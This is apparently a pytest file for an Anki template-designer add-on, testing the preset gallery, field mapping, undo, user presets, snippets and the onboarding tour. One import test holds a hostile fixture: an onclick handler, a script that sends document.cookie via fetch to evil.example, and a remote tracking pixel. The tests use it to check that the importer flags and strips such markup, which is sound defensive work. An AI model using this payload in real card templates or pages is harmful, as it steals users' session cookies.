"""Presets and first steps in a real Anki: the gallery with live, inert thumbnails, applying
a design with a field mapping as one undoable step, saving, user presets (save current,
rename, duplicate, delete), snippet blocks, importing a hostile file, and the first-run
tour. Screenshots of the gallery (light and night) go to test-artifacts/."""

import json
import sys

from conftest import ADDON_FOLDER
from test_canvas_in_anki import new_notetype, save

from anki_harness import pump, wait_until
from canvas_driver import cv, front, wait_canvas, wait_edits
from designer_driver import answer_modal, click, close, js, open_from_menu, open_notetype

TARGET = "Preset Target"
TARGET_FRONT = "<div class=q>{{Question}}</div>\r\n"
TARGET_BACK = "{{FrontSide}}\r\n<hr id=answer>\r\n{{Answer}}<br>{{Notes}}"

#: Everything in the Presets panel, shadow roots included, as one list of elements.
PANEL_ELEMENTS = (
    "(() => { const out = []; const visit = (root) => { for (const el of root.querySelectorAll('*'))"
    " { out.push(el); if (el.shadowRoot) visit(el.shadowRoot); } };"
    " visit(document.getElementById('presets-dialog')); return out; })()"
)


def target_notetype(mw):
    """A note type whose fields (Question, Answer, Notes) are not the designs' names."""
    models = mw.col.models
    existing = models.by_name(TARGET)
    if existing:
        models.remove(existing["id"])
    notetype = models.new(TARGET)
    for name in ("Question", "Answer", "Notes"):
        models.add_field(notetype, models.new_field(name))
    template = models.new_template("Card 1")
    template["qfmt"] = TARGET_FRONT
    template["afmt"] = TARGET_BACK
    models.add_template(notetype, template)
    notetype["css"] = ".card { color: black; }\r\n"
    models.add_dict(notetype)
    note = mw.col.new_note(models.by_name(TARGET))
    note.fields[:] = ["Hauptstadt von Frankreich?", "Paris", "seit 508"]
    mw.col.add_note(note, mw.col.decks.id("Default"))
    return models.by_name(TARGET)


def service(dialog, name):
    """The registry's PresetService of the add-on as Anki loaded it."""
    module = sys.modules[f"{ADDON_FOLDER}.services.presets"]
    return dialog.registry.get(getattr(module, name))


def answer_file_dialog(dialog, path):
    """The one edge a test cannot drive: Anki's native file dialog. The page asks the
    registry's FileDialogs host role for a file; this answers the path instead."""
    role = sys.modules[f"{ADDON_FOLDER}.sdk.hosts"].FileDialogs
    dialog.registry.get(role).choose_open = lambda *_args: str(path)


def draft(dialog):
    return json.loads(js(dialog, "JSON.stringify(atd.app.session.draft)"))


def open_gallery(dialog):
    click(dialog, "#presets-open")
    wait_until(
        lambda: js(dialog, "document.getElementById('presets-dialog').dataset.state") == "ready",
        20,
        "the presets panel",
    )
    wait_until(
        lambda: (
            js(
                dialog,
                "[...document.querySelectorAll('#presets-dialog .preset-thumb')]"
                ".filter(t => t.shadowRoot && t.shadowRoot.querySelector('.atd-thumb-page')).length",
            )
            >= 8
        ),
        20,
        "thumbnails",
    )
    pump(0.2)


def entry_button(dialog, name, action):
    return (
        "[...document.querySelectorAll('#presets-dialog .preset')]"
        f".find(e => e.querySelector('.preset-name').textContent === {json.dumps(name)})"
        f".querySelector('[data-action={json.dumps(action)}]')"
    )


def press(dialog, name, action):
    js(dialog, f"{entry_button(dialog, name, action)}.click(); 0")
    pump(0.2)


def entry_names(dialog, section):
    return js(
        dialog,
        f"[...document.querySelectorAll('#presets-dialog [data-section={json.dumps(section)}] .preset-name')]"
        ".map(e => e.textContent)",
    )


def test_first_open_shows_the_tour_and_skip_is_remembered(mw, anki_base):
    state = anki_base / "addons21" / "atd_under_test" / "user_files" / "onboarding.json"
    state.unlink(missing_ok=True)  # the first time the designer opens
    dialog = open_from_menu(mw)
    wait_until(lambda: js(dialog, "!!document.getElementById('tour')"), 10, "the tour")
    assert js(dialog, "document.querySelector('#tour h2').textContent") == "The canvas"
    # keyboard reachable: Next moves on and takes focus, arrow keys go back
    click(dialog, "#tour [data-tour=next]")
    assert js(dialog, "document.querySelector('#tour h2').textContent") == "Blocks"
    assert js(dialog, "document.activeElement.dataset.tour") == "next"
    js(
        dialog,
        "document.activeElement.dispatchEvent(new KeyboardEvent('keydown', {key: 'ArrowLeft', bubbles: true})); 0",
    )
    assert js(dialog, "document.querySelector('#tour h2').textContent") == "The canvas"
    assert js(dialog, "document.querySelector('.tour-target')?.id") == "cv-canvas"
    click(dialog, "#tour [data-tour=skip]")
    wait_until(state.exists, 10, "the skip to be remembered")
    assert json.loads(state.read_text())["seen"]["designer-tour"]["outcome"] == "skipped"
    assert not js(dialog, "!!document.getElementById('tour')")
    close(dialog)
    again = open_from_menu(mw)
    pump(1.0)
    assert not js(again, "!!document.getElementById('tour')"), "the tour came back"
    close(again)


def test_an_empty_note_type_offers_to_start_from_a_preset(mw):
    # Anki refuses to save a front without a field, but imported or old collections have
    # them (update_dict's skip_checks is how they get in).
    empty = new_notetype(mw, "Empty start", "{{Front}}", "{{FrontSide}}")
    empty["tmpls"][0]["qfmt"] = ""
    mw.col.models.update_dict(empty, skip_checks=True)
    dialog = open_from_menu(mw)
    open_notetype(dialog, "Empty start")
    wait_until(lambda: not js(dialog, "document.getElementById('start-panel').hidden"), 10, "start")
    click(dialog, "#start-current")
    assert js(dialog, "document.getElementById('start-panel').hidden")
    assert not js(dialog, "document.getElementById('editor').hidden")
    open_notetype(dialog, "Basic")
    assert js(dialog, "document.getElementById('start-panel').hidden")
    close(dialog)


def test_gallery_thumbnails_are_inert_apply_maps_fields_undo_restores_and_save_writes(
    mw, artifacts
):
    saved = target_notetype(mw)
    dialog = open_from_menu(mw)
    dialog.resize(1280, 800)  # the size the designer opens at (and the look is checked at)
    open_notetype(dialog, TARGET)
    wait_canvas(dialog)
    before = draft(dialog)
    open_gallery(dialog)
    # the real note's content, rendered by Anki, inside shadow roots
    basic_text = js(
        dialog,
        "document.querySelector('#presets-dialog [data-id=builtin-basic] .preset-thumb')"
        ".shadowRoot.textContent",
    )
    assert "Hauptstadt von Frankreich?" in basic_text and "Paris" in basic_text
    # inert: no script, frame, object or handler anywhere in the panel, no remote URL
    found = js(
        dialog,
        f"{PANEL_ELEMENTS}.filter(el => ['SCRIPT','IFRAME','OBJECT','EMBED','LINK','META'].includes(el.tagName)"
        " || [...el.attributes].some(a => a.name.startsWith('on') || /^(https?:|javascript:)/i.test(a.value)))"
        ".map(el => el.outerHTML.slice(0, 80))",
    )
    assert found == []
    # a cloze design cannot go onto this note type: said, and no Apply
    assert js(
        dialog,
        "document.querySelector('#presets-dialog [data-id=builtin-cloze] .preset-note').textContent",
    ).startswith("this design is for a cloze note type")
    assert not js(dialog, "!!document.querySelector('[data-id=builtin-cloze] [data-action=apply]')")
    dialog.grab().save(str(artifacts / "presets-gallery-light.png"))

    # night: the page follows Anki's theme and the thumbnails render in night mode
    js(dialog, "atd.app.setNight(true); 0")
    js(
        dialog,
        "(() => { const b = document.getElementById('presets-night'); b.checked = true;"
        " b.dispatchEvent(new Event('change')); })(); 0",
    )
    wait_until(
        lambda: js(
            dialog,
            "document.querySelector('[data-id=builtin-basic] .preset-thumb').shadowRoot"
            ".querySelector('.atd-thumb-page').classList.contains('nightMode')",
        ),
        15,
        "night thumbnails",
    )
    pump(0.3)
    dialog.grab().save(str(artifacts / "presets-gallery-night.png"))
    js(dialog, "atd.app.setNight(false); 0")

    # apply Basic: its fields Front/Back differ from Question/Answer -> the mapping step
    press(dialog, "Basic", "apply")
    wait_until(
        lambda: js(dialog, "!!document.querySelector('dialog.presets-modal[open] select')"),
        10,
        "the mapping step",
    )
    chosen = js(
        dialog,
        "Object.fromEntries([...document.querySelectorAll('dialog.presets-modal[open] select')]"
        ".map(s => [s.dataset.field, s.value]))",
    )
    assert chosen == {"Front": "Question", "Back": "Answer"}
    answer_modal(dialog, "apply")
    wait_until(lambda: draft(dialog)["css"] != before["css"], 10, "the design to be applied")
    presets = service(dialog, "PresetService")
    expected = presets.apply("builtin-basic", before, chosen).draft
    after = draft(dialog)
    assert after["tmpls"][0]["qfmt"] == expected["tmpls"][0]["qfmt"]
    assert after["tmpls"][0]["afmt"] == expected["tmpls"][0]["afmt"]
    assert after["css"] == expected["css"]
    assert (
        "{{Question}}" in after["tmpls"][0]["qfmt"] and "{{Front}}" not in after["tmpls"][0]["qfmt"]
    )
    assert js(dialog, "atd.app.session.history.undoLabel") == "Apply design Basic"
    assert not js(dialog, "document.getElementById('presets-dialog').open")

    # one undo gives the previous texts back byte for byte
    cv(dialog, "(cv.step('undo'), 0)")
    wait_until(lambda: draft(dialog)["css"] == before["css"], 10, "undo")
    restored = draft(dialog)
    assert restored["tmpls"][0]["qfmt"] == TARGET_FRONT
    assert restored["tmpls"][0]["afmt"] == TARGET_BACK
    assert restored == before
    cv(dialog, "(cv.step('redo'), 0)")
    wait_until(lambda: draft(dialog)["css"] == expected["css"], 10, "redo")

    save(dialog)
    stored = mw.col.models.get(saved["id"])
    assert stored["tmpls"][0]["qfmt"] == expected["tmpls"][0]["qfmt"]
    assert stored["tmpls"][0]["afmt"] == expected["tmpls"][0]["afmt"]
    assert stored["css"] == expected["css"]
    close(dialog)


def test_user_presets_save_current_rename_duplicate_delete_and_snippet_blocks(mw):
    new_notetype(mw, "Preset Source", "<div class=word>{{Front}}</div>\n<p class=more>{{Back}}</p>")
    dialog = open_from_menu(mw)
    open_notetype(dialog, "Preset Source")
    wait_canvas(dialog)
    presets = service(dialog, "PresetService")
    for stored in presets.list_presets().presets:  # a clean slate for the names below
        if not stored.preset.builtin:
            presets.delete(stored.preset.id, stored.etag)
    open_gallery(dialog)

    click(dialog, "#presets-save-as")
    wait_until(lambda: js(dialog, "!!document.getElementById('presets-save-name')"), 10, "save as")
    js(
        dialog,
        "document.getElementById('presets-save-name').value = 'My look';"
        " document.getElementById('presets-save-description').value = 'from <b>here</b>'; 0",
    )
    answer_modal(dialog, "save")
    wait_until(lambda: entry_names(dialog, "mine") == ["My look"], 10, "the new preset")
    # names and descriptions are text, never markup
    assert (
        js(
            dialog,
            "document.querySelector('[data-section=mine] .preset-description').innerHTML",
        )
        == "from &lt;b&gt;here&lt;/b&gt;"
    )
    mine = [s.preset for s in presets.list_presets("design").presets if not s.preset.builtin]
    assert [p.name for p in mine] == ["My look"]
    assert (
        mine[0].body.card_types[0].front
        == "<div class=word>{{Front}}</div>\n<p class=more>{{Back}}</p>"
    )

    press(dialog, "My look", "rename")
    wait_until(
        lambda: js(dialog, "!!document.querySelector('dialog.modal[open] input')"), 10, "rename"
    )
    js(
        dialog,
        "(() => { const i = document.querySelector('dialog.modal[open] input'); i.value = 'Our look';"
        " i.form.requestSubmit(); })(); 0",
    )
    wait_until(lambda: entry_names(dialog, "mine") == ["Our look"], 10, "the rename")
    press(dialog, "Our look", "duplicate")
    wait_until(lambda: entry_names(dialog, "mine") == ["Our look", "Our look (copy)"], 10, "copy")
    press(dialog, "Our look (copy)", "delete")
    answer_modal(dialog, "delete")
    wait_until(lambda: entry_names(dialog, "mine") == ["Our look"], 10, "the delete")
    assert sorted(
        s.preset.name for s in presets.list_presets("design").presets if not s.preset.builtin
    ) == ["Our look"]

    # a snippet from the selected canvas component
    click(dialog, "#presets-close")
    word = cv(dialog, "cv.describe().find(c => c.tag === 'div').id")
    assert cv(dialog, f"cv.selectById({json.dumps(word)})")
    open_gallery(dialog)
    click(dialog, "#presets-save-as")
    wait_until(lambda: js(dialog, "!!document.getElementById('presets-save-kind')"), 10, "save as")
    js(
        dialog,
        "document.getElementById('presets-save-kind').value = 'snippet';"
        " document.getElementById('presets-save-name').value = 'Word box'; 0",
    )
    answer_modal(dialog, "save")
    wait_until(lambda: "Word box" in entry_names(dialog, "snippets"), 10, "the snippet")
    snippet = next(
        s.preset for s in presets.list_presets("snippet").presets if s.preset.name == "Word box"
    )
    assert snippet.body.template == "<div class=word>{{Front}}</div>"
    block = f"atd-snippet-{snippet.id}"
    wait_until(lambda: cv(dialog, f"!!cv.editor.Blocks.get({json.dumps(block)})"), 10, "the block")
    assert (
        cv(
            dialog,
            f"cv.editor.Blocks.get({json.dumps(block)}).get('category').get?.('label') ?? cv.editor.Blocks.get({json.dumps(block)}).get('category')",
        )
        == "My snippets"
    )
    click(dialog, "#presets-close")
    edits = cv(dialog, "cv.edits")
    cv(dialog, f"(cv.insertBlock({json.dumps(block)}, null, 0), 0)")
    wait_edits(dialog, edits + 1)
    assert front(dialog) == (
        "<div class=word>{{Front}}</div><div class=word>{{Front}}</div>\n<p class=more>{{Back}}</p>"
    )
    close_without_saving(dialog)


def close_without_saving(dialog):
    dialog.dirty = False
    close(dialog)


HOSTILE = (
    '<div class="card-box" onclick="steal()">{{Front}}</div>\n'
    '<script>fetch("https://evil.example/?" + document.cookie)</script>\n'
    '<img src="https://evil.example/pixel.png">'
)


def hostile_file(tmp_path, name):
    from anki_template_designer.services.presets.archive import write_preset_file
    from anki_template_designer.services.presets.create import snippet_from_text

    path = tmp_path / f"{name}.atdpreset"
    preset = snippet_from_text(name, HOSTILE, ".card-box { color: red; }").with_changes(
        id="0123456789abcdef0123456789abcdef",
        created="2026-05-01T00:00:00Z",
        modified="2026-05-01T00:00:00Z",
    )
    write_preset_file(path, preset, {})
    return path


def test_importing_a_hostile_file_lists_the_findings_and_strips_them(mw, tmp_path):
    dialog = open_from_menu(mw)
    open_notetype(dialog, "Basic")
    presets = service(dialog, "PresetService")
    path = hostile_file(tmp_path, "Hostile box")
    answer_file_dialog(dialog, path)
    open_gallery(dialog)
    click(dialog, "#presets-import")
    wait_until(
        lambda: js(dialog, "document.querySelectorAll('.presets-findings li').length") >= 3,
        10,
        "the findings",
    )
    listed = js(
        dialog, "[...document.querySelectorAll('.presets-findings li')].map(l => l.textContent)"
    )
    assert any("/snippet/template:2:1" in line and "script" in line.lower() for line in listed), (
        listed
    )
    assert any("onclick" in line for line in listed), listed
    assert any("evil.example/pixel.png" in line for line in listed), listed
    answer_modal(dialog, "strip")
    wait_until(lambda: "Hostile box" in entry_names(dialog, "snippets"), 10, "the import")
    stored = next(
        s.preset for s in presets.list_presets("snippet").presets if s.preset.name == "Hostile box"
    )
    assert "<script" not in stored.body.template and "onclick" not in stored.body.template
    assert "evil.example" not in stored.body.template
    assert '<div class="card-box">{{Front}}</div>' in stored.body.template

    # kept as is (the user's explicit choice): the gallery still shows it inert
    kept_path = hostile_file(tmp_path, "Kept box")
    answer_file_dialog(dialog, kept_path)
    click(dialog, "#presets-import")
    answer_modal(dialog, "keep")
    wait_until(lambda: "Kept box" in entry_names(dialog, "snippets"), 10, "the second import")
    wait_until(
        lambda: js(
            dialog,
            "!!document.querySelector('[data-section=snippets] .preset:last-child .preset-thumb')?.shadowRoot",
        ),
        10,
        "its thumbnail",
    )
    found = js(
        dialog,
        f"{PANEL_ELEMENTS}.filter(el => ['SCRIPT','IFRAME','IMG'].includes(el.tagName) && /evil/.test(el.outerHTML)"
        " || [...el.attributes].some(a => a.name.startsWith('on')))"
        ".map(el => el.outerHTML.slice(0, 80))",
    )
    assert found == []

    # a damaged file: the error names the file and the reason
    broken = tmp_path / "broken.atdpreset"
    broken.write_text('{"format": "atd-preset", "schema": 2, "name": ', encoding="utf-8")
    answer_file_dialog(dialog, broken)
    click(dialog, "#presets-import")
    message = answer_modal(dialog, "ok")
    assert "broken.atdpreset" in message and "not valid JSON" in message
    close(dialog)
